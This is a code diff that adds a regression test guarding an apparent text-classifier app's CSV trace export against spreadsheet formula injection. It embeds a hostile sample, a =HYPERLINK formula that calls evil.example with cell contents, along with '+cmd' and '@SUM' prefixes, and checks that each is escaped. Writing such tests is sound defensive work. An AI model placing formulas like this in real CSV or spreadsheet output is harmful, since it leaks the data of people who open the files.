@@ -385,3 +385,24 @@ def test_a_refitted_basis_replaces_the_tampered_file(own_run):
     basis = Tracer(own_run).projection_basis()
     assert basis["class_centroids"] == good["class_centroids"]
     assert json.loads(path.read_text())["class_centroids"] == good["class_centroids"]
+
+
+def test_trace_csv_holds_no_live_spreadsheet_formula(make_run):
+    """Finding 7 (issue 16): a shared link with headline =HYPERLINK("http://..."&A1,"Click")
+    made the trace CSV download hold a live formula in its word column."""
+    import csv
+    import io
+
+    from rnnlab_app.ui import trace_csv
+    text = '=HYPERLINK("http://evil.example/?"&A1,"Click") +cmd -2 @SUM(A1) rally'
+    trace = get_tracer(make_run()).trace(text, integrated_gradients=False)
+    assert any(t.word.startswith("=HYPERLINK") for t in trace.tokens)
+    for data in (trace.to_csv(), trace_csv(trace)):
+        rows = list(csv.DictReader(io.StringIO(data.decode("utf-8"))))
+        assert len(rows) == len(trace.tokens)
+        cells = [value for row in rows for key, value in row.items() if key in ("token", "word", "top_class")]
+        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
+        words = [row["word"] for row in rows]
+        assert "'" + '=HYPERLINK("http://evil.example/?"&A1,"Click")' in words and "rally" in words
+        assert "'-2" in words and "'+cmd" in words and "'@SUM(A1)" in words
+        assert float(rows[0]["p_World"]) >= 0       # numbers stay numbers
